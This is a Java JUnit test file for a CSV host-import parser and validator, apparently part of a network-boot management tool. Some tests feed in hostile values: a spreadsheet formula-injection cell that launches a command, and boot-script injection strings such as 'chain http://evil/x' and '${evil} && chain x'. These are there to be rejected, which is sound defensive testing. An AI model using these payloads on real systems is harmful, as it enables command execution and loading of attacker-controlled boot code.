package org.bootwarden.hosts;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

import org.bootwarden.system.FieldProblem;
import org.bootwarden.system.InvalidRequestException;
import org.junit.jupiter.api.Test;

class HostCsvTest {

    private static final String TEMPLATE_URL = "/api/hosts/import/template.csv";
    private static final String HEADER = "hostname,macs,ip,prefixLength,gateway,dns,vlan,firmware,nicDriver,profile,labels\n";

    private static byte[] utf8(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }

    private static HostCsv.Parsed parse(String s) {
        return HostCsv.parse(utf8(s), HostCsv.REQUIRED_FOR_IMPORT, HostCsv.MAX_ROWS, TEMPLATE_URL);
    }

    private static List<FieldProblem> problems(byte[] bytes) {
        List<FieldProblem> problems;
        try {
            problems = HostCsv.parse(bytes, HostCsv.REQUIRED_FOR_IMPORT, HostCsv.MAX_ROWS, TEMPLATE_URL).problems();
        } catch (InvalidRequestException e) {
            return e.errors();
        }
        assertThat(problems).as("problems of the file").isNotEmpty();
        return problems;
    }

    private static List<String> fields(byte[] bytes) {
        return problems(bytes).stream().map(FieldProblem::field).toList();
    }

    @Test
    void shouldParseTheTemplateIntoAValidHostRequest() {
        HostCsv.Parsed p = HostCsv.parse(utf8(HostCsv.TEMPLATE), HostCsv.REQUIRED_FOR_IMPORT, HostCsv.MAX_ROWS, TEMPLATE_URL);
        assertThat(p.columns()).isEqualTo(HostCsv.COLUMNS);
        assertThat(p.rows()).hasSize(1);
        List<FieldProblem> errors = new ArrayList<>();
        HostRequest r = p.rows().get(0).toHostRequest(errors);
        assertThat(errors).isEmpty();
        assertThat(r.macs()).containsExactly("52:54:00:12:34:56", "52:54:00:12:34:57");
        assertThat(r.dns()).containsExactly("10.20.0.2", "10.20.0.3");
        assertThat(r.labels()).isEqualTo(Map.of("rack", "r1", "env", "prod"));
        assertThat(r.vlan()).isNull();
        HostValidator.Valid v = HostValidator.validate(r);
        assertThat(v.hostname()).isEqualTo("web-01.lab.example");
        assertThat(v.prefixLength()).isEqualTo(24);
    }

    @Test
    void shouldTolerateAByteOrderMarkAndCrlfAndMatchColumnNamesWithoutCase() {
        String csv = "\uFEFFHOSTNAME,Macs,IP,prefixlength,Gateway,DNS,profile\r\na.example,52:54:00:00:00:01,10.0.0.5,24,10.0.0.1,10.0.0.2,debian-12\r\n";
        HostCsv.Parsed p = parse(csv);
        assertThat(p.columns()).containsExactly("hostname", "macs", "ip", "prefixLength", "gateway", "dns", "profile");
        assertThat(p.rows().get(0).cell("hostname")).isEqualTo("a.example");
        assertThat(p.rows().get(0).line()).isEqualTo(2);
    }

    @Test
    void shouldReadRfc4180QuotingWithCommasQuotesAndLineBreaks() {
        String csv = "hostname,macs,ip,prefixLength,gateway,dns,profile,labels\n"
                + "a.example,\"52:54:00:00:00:01, 52:54:00:00:00:02\",10.0.0.5,24,10.0.0.1,10.0.0.2,debian-12,\"note=a, b\"\n"
                + "\"b.example\",52:54:00:00:00:03,10.0.0.6,24,10.0.0.1,10.0.0.2,debian-12,\"x=say \"\"hi\"\"\"\n"
                + "\n"
                + "c.example,52:54:00:00:00:04,10.0.0.7,24,10.0.0.1,10.0.0.2,debian-12,\n";
        HostCsv.Parsed p = parse(csv);
        assertThat(p.rows()).extracting(HostCsv.Row::line).containsExactly(2, 3, 5);
        List<FieldProblem> errors = new ArrayList<>();
        assertThat(p.rows().get(0).toHostRequest(errors).macs()).containsExactly("52:54:00:00:00:01", "52:54:00:00:00:02");
        assertThat(p.rows().get(0).toHostRequest(errors).labels()).containsEntry("note", "a, b");
        assertThat(p.rows().get(1).cell("labels")).isEqualTo("x=say \"hi\"");
        assertThat(errors).isEmpty();
    }

    @Test
    void shouldCountLinesOfQuotedLineBreaksForLaterRowNumbers() {
        String csv = "hostname,macs,ip,prefixLength,gateway,dns,profile,labels\n"
                + "a.example,52:54:00:00:00:01,10.0.0.5,24,10.0.0.1,10.0.0.2,debian-12,\"a=1\nb=2\"\n"
                + "b.example,52:54:00:00:00:03,10.0.0.6,24,10.0.0.1,10.0.0.2,debian-12,\n";
        List<FieldProblem> p = problems(utf8(csv));
        // the line break inside the value is refused (control character), and the next record starts on line 4
        assertThat(p).extracting(FieldProblem::field).containsExactly("row 2: labels");
        csv = csv.replace("\"a=1\nb=2\"", "\"a=1;\nb=2\"").replace("b.example,52", "b.example,xx52");
        assertThat(fields(utf8(csv))).containsExactly("row 2: labels");
    }

    @Test
    void shouldRefuseInvalidUtf8WithTheLineAndWhatToDo() {
        byte[] latin1 = (HEADER + "caf\u00e9.example,52:54:00:00:00:01,10.0.0.5,24,10.0.0.1,10.0.0.2,,,,debian-12,\n")
                .getBytes(Charset.forName("ISO-8859-1"));
        List<FieldProblem> p = problems(latin1);
        assertThat(p).hasSize(1);
        assertThat(p.get(0).field()).isEqualTo("row 2");
        assertThat(p.get(0).message()).contains("not valid UTF-8").contains("CSV UTF-8");
    }

    @Test
    void shouldRefuseUtf16WithAClearMessage() {
        byte[] utf16 = (HEADER).getBytes(StandardCharsets.UTF_16LE);
        byte[] withBom = new byte[utf16.length + 2];
        withBom[0] = (byte) 0xff;
        withBom[1] = (byte) 0xfe;
        System.arraycopy(utf16, 0, withBom, 2, utf16.length);
        assertThat(problems(withBom).get(0).message()).contains("UTF-16");
        assertThat(problems(utf16).get(0).message()).contains("NUL");
    }

    @Test
    void shouldRefuseMissingUnknownAndDuplicateColumns() {
        List<FieldProblem> p = problems(utf8("hostname,mac,ip,ip,gateway,dns,profile\na,b,c,d,e,f,g\n"));
        assertThat(p).extracting(FieldProblem::field)
                .containsExactlyInAnyOrder("row 1: mac", "row 1: ip", "row 1: macs", "row 1: prefixLength");
        assertThat(p).filteredOn(f -> f.field().equals("row 1: mac")).first().extracting(FieldProblem::message).asString()
                .contains("unknown column");
        assertThat(problems(utf8("")).get(0).message()).contains("empty").contains("template.csv");
        assertThat(problems(utf8("hostname;macs;ip\n")).get(0).message()).contains("commas");
        assertThat(problems(utf8(HEADER)).get(0).message()).contains("no rows");
        assertThat(parse(HostCsv.TEMPLATE).problems()).isEmpty();
    }

    @Test
    void shouldNeedOnlyTheHostnameColumnForExistingHosts() {
        HostCsv.Parsed p = HostCsv.parse(utf8("hostname\r\na.example\r\nb.example"), List.of("hostname"), HostCsv.MAX_ROWS, TEMPLATE_URL);
        assertThat(p.rows()).extracting(HostCsv.Row::hostname).containsExactly("a.example", "b.example");
    }

    @Test
    void shouldReportBrokenQuotingAndWrongFieldCountsWithRowNumbers() {
        String csv = HEADER
                + "a.example,52:54:00:00:00:01,10.0.0.5,24,10.0.0.1,10.0.0.2,,,,debian-12,\n"
                + "b.example,52:54:00:00:00:02,10.0.0.6,24,10.0.0.1,10.0.0.2,,,,debian-12\n"
                + "c.ex\"ample,52:54:00:00:00:03,10.0.0.7,24,10.0.0.1,10.0.0.2,,,,debian-12,\n"
                + "\"d.example\"x,52:54:00:00:00:04,10.0.0.8,24,10.0.0.1,10.0.0.2,,,,debian-12,\n";
        assertThat(fields(utf8(csv))).containsExactly("row 3", "row 4", "row 5");
        assertThat(problems(utf8(csv)).get(0).message()).contains("has 10 fields, the header has 11");
        assertThat(fields(utf8(HEADER + "\"a.example,52:54:00:00:00:01\n"))).containsExactly("row 2");
        assertThat(problems(utf8(HEADER + "\"a.example,52:54:00:00:00:01\n")).get(0).message()).contains("not closed");
    }

    @Test
    void shouldRefuseFormulaLikeCells() {
        String csv = HEADER
                + "=cmd|' /C calc'!A0,52:54:00:00:00:01,10.0.0.5,24,10.0.0.1,10.0.0.2,,,,debian-12,\n"
                + "b.example,52:54:00:00:00:02,10.0.0.6,24,10.0.0.1,10.0.0.2,,,,debian-12,@SUM(1+1)\n"
                + "c.example,52:54:00:00:00:03,10.0.0.7,24,10.0.0.1,+10.0.0.2,,,,debian-12,\n"
                + "d.example,52:54:00:00:00:04,10.0.0.8,-24,10.0.0.1,10.0.0.2,,,,debian-12,\n";
        assertThat(fields(utf8(csv))).containsExactly("row 2: hostname", "row 3: labels", "row 4: dns", "row 5: prefixLength");
        assertThat(problems(utf8(csv)).get(0).message()).contains("formula");
        // a label value that is a formula
        HostCsv.Parsed p = parse(HEADER + "e.example,52:54:00:00:00:05,10.0.0.9,24,10.0.0.1,10.0.0.2,,,,debian-12,x==1+2\n");
        List<FieldProblem> errors = new ArrayList<>();
        p.rows().get(0).toHostRequest(errors);
        assertThat(errors).extracting(FieldProblem::field).containsExactly("row 2: labels.x");
    }

    @Test
    void shouldReportUnparseableNumbersAndLabelsPerColumn() {
        HostCsv.Parsed p = parse(HEADER + "a.example,52:54:00:00:00:01,10.0.0.5,twenty,10.0.0.1,10.0.0.2,v7,,,debian-12,rack;a=1;a=2\n");
        List<FieldProblem> errors = new ArrayList<>();
        p.rows().get(0).toHostRequest(errors);
        assertThat(errors).extracting(FieldProblem::field)
                .containsExactly("row 2: prefixLength", "row 2: vlan", "row 2: labels", "row 2: labels.a");
    }

    @Test
    void shouldLetTheHostValidatorRefuseScriptInjection() {
        HostCsv.Parsed p = parse(HEADER
                + "\"a.example\nchain http://evil/x\",52:54:00:00:00:01,10.0.0.5,24,10.0.0.1,10.0.0.2,,,,debian-12,\n"
                .replace("\n", "  ") + "\n"
                + "b.example,52:54:00:00:00:02,10.0.0.6,24,10.0.0.1,10.0.0.2,,,,debian-12,\"k=${evil} && chain x\"\n"
                + "c${x}.example,52:54:00:00:00:03,10.0.0.7,24,10.0.0.1,10.0.0.2,,,,debian-12,\"<script>=1\"\n");
        for (HostCsv.Row row : p.rows()) {
            List<FieldProblem> errors = new ArrayList<>();
            HostRequest r = row.toHostRequest(errors);
            assertThatThrownBy(() -> HostValidator.validate(r)).as("row %d", row.line()).isInstanceOf(InvalidRequestException.class);
        }
    }

    @Test
    void shouldRefuseMoreRowsThanTheLimit() {
        StringBuilder sb = new StringBuilder("hostname\n");
        for (int i = 0; i <= HostCsv.MAX_ROWS; i++) {
            sb.append("h").append(i).append(".example\n");
        }
        assertThatThrownBy(() -> HostCsv.parse(utf8(sb.toString()), List.of("hostname"), HostCsv.MAX_ROWS, TEMPLATE_URL))
                .isInstanceOfSatisfying(InvalidRequestException.class,
                        e -> assertThat(e.errors().get(0).message()).contains("at most " + HostCsv.MAX_ROWS));
    }

    @Test
    void shouldKeepTheReadableCellsOfRejectedRowsWithTheirLineNumbers() {
        HostCsv.Parsed p = parse(HEADER
                + "a.example,52:54:00:00:00:01,10.0.0.5,24,10.0.0.1,10.0.0.2,,,,debian-12,\n"
                + "b.example,52:54:00:00:00:02,=cmd(),24,10.0.0.1,10.0.0.2,,,,debian-12,\n"
                + "c.example,52:54:00:00:00:03\n"
                + "\"d.example,52:54:00:00:00:04,10.0.0.8,24,10.0.0.1,10.0.0.2,,,,debian-12,\n");
        assertThat(p.rows()).extracting(HostCsv.Row::line).containsExactly(2);
        assertThat(p.rejected()).extracting(HostCsv.Row::line).containsExactly(3, 4, 5);
        assertThat(p.rejected()).extracting(HostCsv.Row::hostname).containsExactly("b.example", "c.example", "");
        assertThat(p.problems()).extracting(FieldProblem::field).containsExactly("row 3: ip", "row 4", "row 5");
    }

    @Test
    void shouldWriteAHostAsALineThatReadsBackAsTheSameHost() {
        Host h = new Host("id-1", "web-01.lab.example", List.of("52:54:00:12:34:56", "52:54:00:12:34:57"), "10.20.0.11", 24,
                "10.20.0.1", List.of("10.20.0.2", "10.20.0.3"), 42, Firmware.UEFI, NicDriver.SNPONLY, Architecture.ARM64, "debian-12",
                new java.util.LinkedHashMap<>(Map.of("note", "a, b=c", "rack", "r1")), BootState.LOCAL, "created",
                java.time.Instant.EPOCH, 0, null, null, 1, 1, java.time.Instant.EPOCH, java.time.Instant.EPOCH);
        String csv = HostCsv.header() + HostCsv.line(h);
        assertThat(csv).startsWith(String.join(",", HostCsv.COLUMNS) + "\r\n").endsWith("\r\n");
        HostCsv.Parsed p = parse(csv);
        assertThat(p.problems()).isEmpty();
        List<FieldProblem> errors = new ArrayList<>();
        HostValidator.Valid v = HostValidator.validate(p.rows().get(0).toHostRequest(errors));
        assertThat(errors).isEmpty();
        assertThat(v).isEqualTo(new HostValidator.Valid(h.hostname(), h.macs(), h.ip(), h.prefixLength(), h.gateway(), h.dns(), h.vlan(),
                h.firmware(), h.nicDriver(), h.architecture(), h.profile(), h.labels()));
    }
}
